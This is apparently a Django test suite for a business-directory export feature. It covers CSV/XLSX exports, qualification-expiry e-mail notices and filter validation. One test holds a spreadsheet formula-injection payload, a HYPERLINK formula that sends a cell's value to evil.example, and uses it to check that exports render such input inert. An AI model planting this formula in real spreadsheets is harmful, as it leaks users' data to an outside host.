import csv
import datetime
import io
import random

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.utils import timezone
from openpyxl import load_workbook

from core.common.spreadsheets import cell_text_read, cell_value
from core.directory import uscc
from core.directory.exports import directory_export_run
from core.directory.models import Enterprise, Institution, Qualification
from core.directory.notifications import qualification_expiry_notify
from core.directory.services import directory_export_start
from core.directory.tables import read_rows
from core.directory.tasks import directory_export_task
from core.jobs.models import Job, JobStatus
from core.jobs.services import job_create
from tests.tasks import run_queued

pytestmark = pytest.mark.django_db
RNG = random.Random(3)  # noqa: S311  (test data)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_writes_the_import_columns_for_what_the_search_shows(city, file_format):
    for n in range(3):
        Enterprise.objects.create(name=f"导出企业{n}", uscc=uscc.generate(RNG), district="kaiyuan", industry="C")
    Enterprise.objects.create(name="不导出企业", uscc=uscc.generate(RNG), district="xifeng")
    job = job_create(kind="directory.enterprise_export", input_name=f"enterprises.{file_format}")
    job = directory_export_run(job_id=job.pk, filters={"district": "kaiyuan"})
    assert job.summary == {"rows": 3}
    headers, rows, _count = read_rows(job.result_name, bytes(job.result_data))
    rows = list(rows)
    assert headers[:2] == ["企业名称", "统一社会信用代码"]
    assert sorted(row[0] for row in rows) == ["导出企业0", "导出企业1", "导出企业2"]
    assert {row[4] for row in rows} == {"开原市"} and {row[5] for row in rows} == {"制造业"}


def test_expiring_qualifications_are_flagged_and_the_bureau_told_once(
    city, mailoutbox, django_capture_on_commit_callbacks
):
    lab = Institution.objects.create(name="铁岭检测中心", kind="testing")
    soon = timezone.localdate() + datetime.timedelta(days=30)
    later = timezone.localdate() + datetime.timedelta(days=400)
    expiring = Qualification.objects.create(institution=lab, kind="cma", number="210000000001", valid_until=soon)
    Qualification.objects.create(institution=lab, kind="cnas", number="L0001", valid_until=later)
    city.bureau_admin.email = "bureau-admin@example.test"
    city.bureau_admin.save()

    with django_capture_on_commit_callbacks() as callbacks:
        assert qualification_expiry_notify() == 1
        assert qualification_expiry_notify() == 0  # told once
    expiring.refresh_from_db()
    assert expiring.expiry_notices == [f"{soon.isoformat()}:30"]
    # A notification (core.notifications), and its e-mail by the kind's default, sent once.
    assert run_queued(callbacks, app="core.deliveries") == [True]
    assert len(mailoutbox) == 1
    assert mailoutbox[0].to == ["bureau-admin@example.test"]
    assert "铁岭检测中心" in mailoutbox[0].body and "210000000001" in mailoutbox[0].body
    assert "到期" in mailoutbox[0].subject
    assert mail.outbox is mailoutbox


def test_institution_export_round_trips_items_and_qualifications(city):
    from core.catalog.models import ServiceItem

    lab = Institution.objects.create(name="导出检测所", kind="testing", districts=["yinzhou", "kaiyuan"])
    lab.items.set(ServiceItem.objects.filter(clause__in=["5.1.7.1", "5.1.7.4"]))
    Qualification.objects.create(institution=lab, kind="cma", number="210099", valid_until=datetime.date(2027, 12, 31))
    job = job_create(kind="directory.institution_export", input_name="institutions.csv")
    job = directory_export_run(job_id=job.pk, filters={"q": "导出检测所"})
    _headers, rows, _count = read_rows(job.result_name, bytes(job.result_data))
    row = next(rows)
    assert row[:2] == ["导出检测所", "检验检测机构"]
    assert row[4] == "银州区、开原市" and row[5] == "5.1.7.1、5.1.7.4"
    assert row[10] == "CMA|210099|2027-12-31"


# --- Text is text: formula injection and characters XLSX refuses -----------------------------------------------------


def test_a_formula_and_a_control_character_export_as_inert_text_to_xlsx_and_csv(city):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
    Enterprise.objects.create(name=formula, uscc=uscc.generate(RNG), district="xifeng", industry="C")
    Enterprise.objects.create(name="铃声\x07控制字符企业", uscc=uscc.generate(RNG), district="xifeng")
    Enterprise.objects.create(name="+加号企业", uscc=uscc.generate(RNG), district="xifeng", phone="-1")
    Enterprise.objects.create(name="@at企业", uscc=uscc.generate(RNG), district="xifeng")

    xlsx = job_create(kind="directory.enterprise_export", input_name="enterprises.xlsx")
    xlsx = directory_export_run(job_id=xlsx.pk, filters={"district": "xifeng"})
    assert xlsx.status == JobStatus.SUCCEEDED
    sheet = load_workbook(io.BytesIO(bytes(xlsx.result_data))).worksheets[0]
    names = {cell.value: cell.data_type for cell in sheet["A"][1:]}
    assert names == {
        "'" + formula: "s",  # a string, not a formula ("f")
        "铃声控制字符企业": "s",
        "'+加号企业": "s",
        "'@at企业": "s",
    }
    assert "'-1" in {cell.value for cell in sheet["I"]}

    csv_job = job_create(kind="directory.enterprise_export", input_name="enterprises.csv")
    csv_job = directory_export_run(job_id=csv_job.pk, filters={"district": "xifeng"})
    assert csv_job.status == JobStatus.SUCCEEDED
    rows = list(csv.reader(io.StringIO(bytes(csv_job.result_data).decode("utf-8-sig"))))[1:]
    assert {row[0] for row in rows} == {"'" + formula, "铃声控制字符企业", "'+加号企业", "'@at企业"}


def test_the_shared_cell_writer_neutralises_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert cell_value(f"{start}1+1") == f"'{start}1+1"
        assert cell_text_read(cell_value(f"{start}1+1")) == f"{start}1+1"
    assert cell_value("普通企业") == "普通企业"
    assert cell_value("a\x00b\x1fc") == "abc"
    assert cell_value(-5) == -5 and cell_value(None) is None


# --- Filters: refused when asked for, and a job that meets one anyway ends ------------------------------------------


@pytest.mark.parametrize(
    ("what", "filters", "word"),
    [
        ("enterprises", {"colour": "red"}, "colour"),
        ("enterprises", {"district": "火星"}, "火星"),
        ("enterprises", {"scale": "giant"}, "giant"),
        ("enterprises", {"q": "a\x00b"}, "q"),
        ("enterprises", {"q": "长" * 201}, "200"),
        ("institutions", {"include_inactive": "true"}, "include_inactive"),
        ("institutions", {"item": "9.9.9"}, "9.9.9"),
        ("institutions", {"kind": "school"}, "school"),
    ],
)
def test_bad_export_filters_are_refused_on_the_field_before_a_job_exists(city, what, filters, word):
    jobs_before = Job.objects.count()
    with pytest.raises(ValidationError) as refused:
        directory_export_start(what=what, user=city.bureau_admin, file_format="csv", filters=filters)
    (message,) = refused.value.message_dict["filters"]
    assert word in message
    assert Job.objects.count() == jobs_before


def test_good_export_filters_are_accepted_and_blank_ones_left_out(city, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks() as queued:
        job = directory_export_start(
            what="enterprises",
            user=city.bureau_admin,
            file_format="xlsx",
            filters={"q": "企业", "district": "kaiyuan", "industry": "", "scale": "small"},
        )
    assert job.status == JobStatus.QUEUED and len(queued) == 1


def test_an_export_whose_filters_reach_the_worker_unchecked_fails_with_the_reason(city):
    job = job_create(kind="directory.enterprise_export", input_name="enterprises.csv")
    directory_export_task(job_id=job.pk, filters={"colour": "red"})  # what the worker runs
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED and job.finished_at is not None
    assert "colour" in job.error and "Traceback" not in job.error
